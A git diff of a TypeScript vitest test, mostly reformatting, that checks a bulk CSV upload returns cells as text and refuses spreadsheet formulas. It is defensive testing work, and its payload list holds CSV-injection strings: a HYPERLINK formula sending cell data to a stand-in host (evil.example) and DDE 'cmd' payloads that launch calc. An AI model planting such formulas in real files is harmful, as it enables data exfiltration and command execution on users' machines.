@@ -1,6 +1,6 @@
 import { parse } from 'csv-parse/sync';
 import { afterEach, describe, expect, it } from 'vitest';
-import { startHarness, type Harness } from '../support/harness.js';
+import { type Harness, startHarness } from '../support/harness.js';
 import { confirm, uploadCsv } from './support.js';
 
 let h: Harness;
@@ -13,7 +13,12 @@ describe('the bulk results file', () => {
   it('hands every uploaded cell back as text, never as a spreadsheet formula', async () => {
     h = await startHarness();
     const payloads = ['=HYPERLINK("https://evil.example/?d="&A1,"Details")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3+cmd|x'];
-    const csv = ['customer,phone_number,display_name', 'main,+14155550100,Acme Store', ...payloads.map((p) => `main,${field(p)},Acme Store`), `${field('=1+1')},+14155550101,Acme Store`].join('\n');
+    const csv = [
+      'customer,phone_number,display_name',
+      'main,+14155550100,Acme Store',
+      ...payloads.map((p) => `main,${field(p)},Acme Store`),
+      `${field('=1+1')},+14155550101,Acme Store`,
+    ].join('\n');
     const { viewId, view } = await uploadCsv(h, csv);
     expect(JSON.stringify(view.blocks)).toContain('*1 ready*, *6 refused*');
     await confirm(h, viewId);
